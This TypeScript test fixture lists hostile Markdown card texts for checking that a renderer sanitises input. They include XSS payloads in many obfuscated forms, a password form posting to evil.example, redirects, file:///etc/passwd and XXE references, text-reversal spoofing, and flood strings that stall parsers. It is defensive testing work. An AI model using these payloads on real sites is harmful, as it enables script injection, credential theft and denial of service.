/**
 * Hostile texts of cards: attempts to run a script, to load a file, to hide the target of a link, to break the page, or
 * to take long. The server must keep or refuse each text, and the client must show each text that the server keeps.
 */
export const injections: ReadonlyArray<readonly [what: string, text: string]> = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in capitals and pieces', '<ScRiPt\n>alert(1)</sCrIpT\n>'],
  ['a script inside a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script after a comment', '<!--><script>alert(1)</script-->'],
  ['a script in CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['a script in entities', '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;'],
  [
    'a script in a code block',
    '```html"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  ],
  [
    'a script in the name of a language',
    '```<script>alert(1)</script>\ncode\n```\n\n``` "onclick=alert(1)\ncode\n```',
  ],
  ['a script in a code span', '`</code><script>alert(1)</script>`'],
  ['a script in a heading', '# <img src=x onerror=alert(1)>\n\n<h1 onclick=alert(1)>\n==='],
  [
    'a script in a table',
    '| <script>alert(1)</script> | b |\n| :-: | --- |\n| <img src=x onerror=alert(1)> | </td></table><script>alert(1)</script> |',
  ],
  ['an alignment with a style', '| a |\n| :-:" style="position:fixed |\n| b |'],
  [
    'a script in a task',
    '- [x] <script>alert(1)</script>\n- [ ]<svg/onload=alert(1)>\n- [x]" onclick="alert(1)',
  ],
  ['an image with an event handler', '<img src=x onerror=alert(1)>'],
  ['an image with slashes for spaces', '<img/src="x"/onerror=alert(1)//'],
  ['an SVG', '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>'],
  [
    'MathML',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  [
    'a form',
    '<form action="https://evil.example"><input name="password"><button formaction=javascript:alert(1)>',
  ],
  [
    'a frame',
    '<iframe src="javascript:alert(1)"></iframe><object data="data:text/html,x"></object><embed src=x>',
  ],
  [
    'a style sheet',
    '<style>body{background:url(https://evil.example)}</style><link rel=stylesheet href=//evil.example>',
  ],
  [
    'a base address',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  ],
  ['a template', '<template><script>alert(1)</script></template>{{constructor.constructor("alert(1)")()}}'],
  ['an element that is not closed', '<div><p><b><a href="https://evil.example" '],
  ['closing elements', '</div></main></body></html>'],
  ['an id that hides a global', '<a id=location name=cookie><form id=document><img name=body>'],
  ['javascript:', '[a](javascript:alert(1))'],
  ['javascript: in capitals', '[a](JaVaScRiPt:alert(1))'],
  ['javascript: after a space', '[a]( javascript:alert(1) ) [b](<  javascript:alert(1)>)'],
  [
    'javascript: with a tab and a line end',
    '[a](java\tscript:alert(1)) [b](<java\tscript:alert(1)>) [c](java&Tab;script:alert(1)) [d](java&NewLine;script:alert(1))',
  ],
  [
    'javascript: after control characters',
    '[a](\u0001javascript:alert(1)) [b](&#1;javascript:alert(1)) [c](&#x0B;javascript:alert(1))',
  ],
  [
    'javascript: in entities',
    '[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(1)) [c](&#x6A;&#x61;vascript&#58;alert(1))',
  ],
  [
    'javascript: with entities without semicolons',
    '[a](&#106avascript:alert(1)) [b](javascript&#58alert(1)) [c](&#0000106;avascript:alert(1))',
  ],
  [
    'javascript: percent-encoded',
    '[a](%6aavascript:alert(1)) [b](javascript%3aalert(1)) [c](java%0ascript:alert(1))',
  ],
  [
    'javascript: with backslashes',
    '[a](\\javascript:alert(1)) [b](javascript\\:alert(1)) [c](j\\avascript:alert(1))',
  ],
  [
    'javascript: with invisible characters',
    '[a](java\u200bscript:alert(1)) [b](\ufeffjavascript:alert(1)) [c](\u00adjavascript:alert(1))',
  ],
  [
    'javascript: with other letters',
    '[a](ｊavascript:alert(1)) [b](javaſcript:alert(1)) [c](javascript：alert(1))',
  ],
  [
    'javascript: with a comment',
    '[a](javascript://example.com/%0aalert(1)) [b](javascript://https://example.com)',
  ],
  ['javascript: in an address in brackets', '<javascript:alert(1)> <JAVASCRIPT:alert(1)> <vbscript:x>'],
  [
    'javascript: in a reference',
    '[a]\n\n[a]: javascript:alert(1)\n\n[b][c]\n\n[c]: <javascript:alert(1)> "title"',
  ],
  ['javascript: in an image', '![a](javascript:alert(1)) ![b][c]\n\n[c]: javascript:alert(1)'],
  ['javascript: in a link around an image', '[![a](https://example.com/a.png)](javascript:alert(1))'],
  ['javascript: in a title', '[a](https://example.com "javascript:alert(1)" onclick=alert(1))'],
  [
    'javascript: behind view-source',
    '[a](view-source:javascript:alert(1)) [b](feed:javascript:alert(1)) [c](jar:javascript:alert(1)!/)',
  ],
  ['VBScript', '[a](vbscript:msgbox(1)) [b](VBSCRIPT:msgbox(1))'],
  [
    'data:',
    '[a](data:text/html,<script>alert(1)</script>) [b](data:text/html;base64,PHNjcmlwdD4=) ![c](data:image/svg+xml,<svg/onload=alert(1)>) ![d](data:image/png;base64,AAAA)',
  ],
  [
    'files and programs',
    '[a](file:///etc/passwd) [b](blob:https://example.com/1) [c](ms-msdt:/id) [d](tel:1) [e](sms:1) [f](ftp://example.com) ftp://example.com',
  ],
  [
    'addresses without a protocol',
    '[a](//evil.example) [b](/boards) [c](#x) [d](?x) [e](evil) [f](\\\\evil.example) [g]()',
  ],
  [
    'an attribute in an address',
    '[a](https://example.com/"onmouseover="alert(1)) [b](<https://example.com/" onclick="alert(1)>) https://example.com/"onclick="alert(1)',
  ],
  ['an attribute in a title', '[a](https://example.com \'" onmouseover="alert(1)\')'],
  ['an attribute in the text of an image', '![" onerror="alert(1)](https://example.com/a.png)'],
  [
    'a script in an address in brackets',
    '<https://example.com/<script>alert(1)</script>> <a@example.com"onclick=alert(1)>',
  ],
  [
    'a script in an email address',
    '<mailto:a@example.com?body=<script>alert(1)</script>> "><script>alert(1)</script>@example.com',
  ],
  [
    'an address with a password',
    '[https://bank.example](https://bank.example@evil.example) https://bank.example:443@evil.example',
  ],
  [
    'an address that isn’t one',
    '[a](https://) [b](https://[::1) [c](http:///x) [d](https:example.com) [e](https://a b) [f](mailto:)',
  ],
  [
    'a remote image',
    '![a](https://tracker.example/a.png) ![](//tracker.example/b.png) ![c](http://tracker.example/c.png "d")',
  ],
  ['a remote image by reference', '![a][b]\n\n[b]: https://tracker.example/a.png'],
  ['an image in an image', '![![a](https://tracker.example/a.png)](https://tracker.example/b.png)'],
  [
    'a link in a link',
    '[a [b](https://one.example) c](https://two.example) [<https://one.example>](https://two.example)',
  ],
  [
    'references with names of properties',
    '[__proto__] [constructor] [toString] [hasOwnProperty]\n\n[__proto__]: https://example.com\n[constructor]: https://example.com\n[toString]: https://example.com\n[hasOwnProperty]: javascript:alert(1)',
  ],
  [
    'a reference defined twice',
    '[a]\n\n[a]: https://example.com\n[a]: javascript:alert(1)\n[A]: javascript:alert(2)',
  ],
  [
    'a reference with a script as its name',
    '[<script>alert(1)</script>]\n\n[<script>alert(1)</script>]: https://example.com "<script>"',
  ],
  [
    'a reference over several lines',
    '[a\nb]: <https://example.com/\n"onclick="alert(1)> \'t\n\nu\'\n\n[a b]',
  ],
  ['a footnote', '[^1] [^<img src=x onerror=alert(1)>]\n\n[^1]: <script>alert(1)</script>'],
  [
    'characters that reverse text',
    'Open photo_\u202egpj.exe \u2066[a\u202e](https://example.com/\u202emoc.live)\u2069 \u200f\u061c',
  ],
  ['characters that reverse code', '`if (\u202e/* admin */\u2066 isAdmin\u2069)`\n\n```\n\u202etpircs\n```'],
  [
    'invisible characters',
    'a\u200b\u200c\u200d\u2060\ufeff\u00adb \u{e0061}\u{e0062} \u115f\u3164\uffa0 \u180e\u034f',
  ],
  ['control characters', 'a\u0001\u0007\u0008\u000b\u000c\u001b[31mred\u007f\u0085\u009b'],
  ['line separators', 'a\u2028<script>alert(1)</script>\u2029b\r<b>c\r\nd'],
  ['stacked accents', `Z${'\u0301'.repeat(500)}`],
  ['NUL', 'a\0<script>alert(1)</script>'],
  ['NUL in a link', '[a](java\0script:alert(1)) [b](&#0;javascript:alert(1))'],
  ['half of a character', '\ud83d <script>\udc24'],
  ['a mention in a script', '@<script>alert(1)</script> @"onclick=alert(1)'],
  ['a mention with a script for a name', '@<b onclick=alert(1)>Eve</b> [@Ada](javascript:alert(1)) `@Ada`'],
  ['an unknown number for a list', '999999999. a\n1000000000. b\n-1. c\n0. d'],
  ['many levels of headings', '###### a\n####### b\n# # # c'],
  [
    'front matter',
    '---\ntitle: !!js/function "alert(1)"\n---\n<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  ],
  [
    'formulas',
    '$\\href{javascript:alert(1)}{a}$ \\(\\url{javascript:alert(1)}\\) =HYPERLINK("javascript:alert(1)")',
  ],
];

const longest = 20_000;
const fill = (part: string) => part.repeat(Math.floor(longest / part.length));
const lines = (count: number, line: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => line(index)).join('\n');

/** Texts of the maximum length for which some Markdown parsers take seconds, or run out of memory. */
export const floods: ReadonlyArray<readonly [what: string, text: string]> = [
  ...[
    ...[
      '> ',
      '>',
      '- ',
      '1. ',
      '> - ',
      '# ',
      '# a\n',
      '- a\n',
      '- [x] a\n',
      'a\n',
      'a\n=\n',
      '\n',
      '    a\n',
      '***\n',
    ],
    ...[
      '[',
      '![',
      ']',
      '[]',
      '[a](',
      '[a][',
      '[a]: b\n',
      '[^a]',
      '[](https://a.b)',
      '![](https://a.b)',
      '@Ada ',
      '@',
    ],
    ...[
      '*',
      '*a ',
      '*a_ ',
      '**a *b ',
      '_a*',
      '***a',
      '~~a',
      '~',
      '`',
      '` ',
      '```\n',
      '~~~\n',
      '\\',
      '&a',
      '&#',
      '&lt;',
    ],
    ...[
      '<',
      '<a ',
      '<!--',
      '<![CDATA[',
      '<?',
      '<b>',
      '<https://a.b>',
      'https://a.b ',
      'http://',
      'www.',
      'a@',
      'a@b.c ',
    ],
    ...['|', '|a', '|a|\n|-|\n', 'x', '🐤', '\u0301', '\u202e'],
  ].map((part) => [`${JSON.stringify(part)} again and again`, fill(part)] as const),
  ['nested lists', lines(195, (index) => `${' '.repeat(index)}- a`)],
  ['lists that are nested deeply', lines(98, (index) => `${'  '.repeat(index)}- a`)],
  ['quotes with lazy lines', `${'> '.repeat(5_000)}\n${'a\n'.repeat(5_000)}`],
  ['nested emphasis', `${'*'.repeat(9_999)}a${'*'.repeat(9_999)}`],
  ['nested links', `${'['.repeat(6_000)}a${'](b)'.repeat(3_400)}`],
  ['backticks of different numbers', lines(195, (index) => '`'.repeat(index)).replaceAll('\n', ' ')],
  ['a table with many columns', `|${'a|'.repeat(3_000)}\n|${'-|'.repeat(3_000)}\n${'|\n'.repeat(3_900)}`],
  ['a table with many rows', `|a|b|\n|-|-|\n${'|c|d|\n'.repeat(3_300)}`],
  ['a long address in many references', `[a]: <${'x'.repeat(9_000)}>\n\n${'[a] '.repeat(2_700)}`],
  [
    'a long web address in many references',
    `[a]: <https://a.b/${'x'.repeat(9_000)}>\n\n${'[a] '.repeat(2_700)}`,
  ],
  ['a long label', `[${'a'.repeat(9_000)}]: b\n\n[${'a'.repeat(9_000)}]`],
  ['a long line of code', `\`\`\`\n${'x'.repeat(19_900)}\n\`\`\``],
];
